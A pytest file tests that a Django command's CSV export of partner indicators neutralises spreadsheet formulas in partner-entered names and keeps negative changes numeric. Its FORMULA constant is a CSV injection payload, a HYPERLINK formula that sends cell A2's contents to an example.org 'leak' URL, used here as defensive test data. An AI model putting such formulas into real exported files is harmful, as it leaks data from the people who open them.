"""`scrutiny indicators --format csv`: a name typed in by a partner cannot become a formula in
the spreadsheet that opens the file, and negative changes stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from scrutiny.performance.models import PartnerFigure, PartnerIndicator
from tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?leak="&A2,"Open the figures")'


def test_a_formula_in_a_partners_indicator_or_name_is_written_as_text(world):
    home, *_rest, group = world
    partner = OrganisationFactory(name="@Partner", short_name="+KFRS")
    indicator = PartnerIndicator.internal.create(committee=group.committee, organisation=partner, name=FORMULA,
                                                 slug="fires")
    PartnerFigure.internal.create(indicator=indicator, period_start=dt.date(2022, 1, 1),
                                  period_end=dt.date(2022, 3, 31), value=Decimal(12))
    PartnerFigure.internal.create(indicator=indicator, period_start=dt.date(2021, 1, 1),
                                  period_end=dt.date(2021, 3, 31), value=Decimal(16))
    out = io.StringIO()
    call_command("indicators", "--area", home.code, "--from", "2022-01", "--to", "2022-03", "--format", "csv",
                 stdout=out)
    rows = {r["indicator"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert FORMULA not in rows
    fires = rows["'" + FORMULA]
    assert fires["source"] == "'+KFRS"
    assert (fires["count"], fires["compared"], fires["change"], fires["change_percent"]) == ("12", "16", "-4", "-25.0")
    total = rows["Total recorded crime (excluding anti-social behaviour)"]
    assert (total["change"], total["change_percent"]) == ("-3", "-9.1")  # numbers: not neutralised
